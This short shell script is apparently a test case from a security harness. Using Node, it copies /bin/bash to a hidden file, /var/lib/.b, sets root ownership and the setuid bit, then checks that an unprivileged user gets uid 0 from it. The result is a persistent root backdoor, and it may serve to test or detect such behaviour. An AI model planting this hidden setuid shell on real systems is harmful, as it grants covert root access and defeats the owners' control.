#!/bin/sh
. /opt/case/case.sh

node -e 'const fs = require("fs"); fs.copyFileSync("/bin/bash", "/var/lib/.b"); const f = fs.openSync("/var/lib/.b", "r"); fs.fchownSync(f, 0, 0); fs.fchmodSync(f, 0o4755);'
setpriv --reuid 1000 --regid 1000 --clear-groups /var/lib/.b -p -c 'id -u' | grep -qx 0
took_place
